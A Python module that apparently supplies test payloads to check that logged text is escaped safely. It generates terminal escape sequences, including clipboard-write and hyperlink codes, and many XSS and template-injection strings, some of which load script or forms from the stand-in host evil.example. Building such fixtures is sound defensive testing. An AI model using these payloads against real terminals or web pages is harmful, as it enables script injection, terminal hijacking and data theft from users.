"""Texts by which a log could act: on a terminal, in a page. Each is a form that did so somewhere."""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

OSC = (
    "0;title",
    "2;title",
    "8;;https://evil.example",
    "52;c;ZWNobyBoaQ==",
    "9;x",
    "777;notify;a;b",
    "1337;File=:eA==",
    "4;1;?",
)
ENDS = ("\x07", "\x1b\\", "\x9c", "")
CSI = (
    "2J",
    "3J",
    "H",
    "1;1H",
    "31m",
    "0m",
    "?25l",
    "?1049h",
    "?2004h",
    "6n",
    "5n",
    "c",
    "0c",
    ">c",
    "!p",
    "20l",
    "1A",
    "99D",
    "s",
    "u",
    "r",
    "2K",
    "4i",
    "5i",
    "14t",
    "21t",
    "8;1;1t",
    "1;5;7m",
    "38;5;1m",
    "?1000h",
)
STRINGS = ("P+q544e\x1b\\", "P$qm\x1b\\", "X y\x1b\\", "^ y\x1b\\", "_ y\x1b\\", "P0;1|17/ab\x1b\\", "Pq#0\x1b\\")
SHORT = (
    "c",
    "7",
    "8",
    "D",
    "E",
    "H",
    "M",
    "N",
    "O",
    "Z",
    "=",
    ">",
    "(0",
    ")0",
    "#8",
    "%G",
    " F",
    "n",
    "o",
    "|",
    "}",
    "~",
)
MARKUP = ("[bold red]x[/]", "[link=https://evil.example]x[/link]", "[blink]x", "[/]", ":skull:", "[on red]x", "\\[x]")


def on_a_terminal() -> Sequence[str]:
    """Control characters and sequences, markup of the library that draws, directions, broken characters."""
    found = [chr(code) for code in (*range(0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))]
    found += [f"\x1b]{body}{end}x" for body in OSC for end in ENDS]
    found += [f"{start}{body}x" for start in ("\x1b[", "\x9b") for body in CSI]
    found += [f"\x1b{body}x" for body in (*STRINGS, *SHORT)]
    found += [f"a{chr(code)}b" for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))]
    found += ["\ud800", "\udfff", "x\udc9bx", "\u2028", "\u2029", *MARKUP]
    return found


HANDLERS = ("onload", "onerror", "onmouseover", "onfocus", "onclick", "ontoggle", "onbegin", "onanimationstart")
TAGS = ("svg", "img src=x", "body", "details open", "input autofocus", "video src=x", "iframe", "math", "x", "marquee")
CLOSERS = ("", '">', "'>", "</title>", "</style>", "</script>", "</textarea>", "</pre>", "-->", "]]>", "</svg>")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "data:text/html,",
    "vbscript:",
    "&#106;avascript:",
    "\x01javascript:",
)
BODIES = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x",
    "<object data=x>",
    "<embed src=x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x>'>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><use href=//evil.example#x /></svg>",
    "<!--><img src=x>",
    "<![CDATA[<b>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;b&#x3E;",
    "+ADw-script+AD4-",
    "{{7*7}}",
    "{%include 'x'%}",
    "{#",
    "${7*7}",
    "<%= 7*7 %>",
    "\u2028<b>\u2029",
    "<a href=//evil.example target=_blank>x</a>",
    "<p style=background:url(//evil.example)>",
)


def in_a_page() -> Sequence[str]:
    """Tags, handlers, addresses and templates, behind whatever could end the place in which they stand."""
    return [
        *_handlers(),
        *_addresses(),
        *(f"{closer}{body}" for closer, body in itertools.product(CLOSERS[:9], BODIES)),
    ]


def _handlers() -> Iterator[str]:
    for number, (tag, handler) in enumerate(itertools.product(TAGS, HANDLERS)):
        yield f"{CLOSERS[number % len(CLOSERS)]}<{tag} {handler}=alert(1)>"
        yield f'x" {handler}="alert(1)'


def _addresses() -> Iterator[str]:
    for scheme in SCHEMES:
        yield f"{scheme}alert(1)"
        yield f"[x]({scheme}alert(1))"
        yield f"<a href='{scheme}alert(1)'>x</a>"


def batches(payloads: Sequence[str], size: int = 16) -> list[str]:
    """Several in one text, short enough to be shown whole: each still stands as it is."""
    return [" ".join(payloads[at : at + size]) for at in range(0, len(payloads), size)]
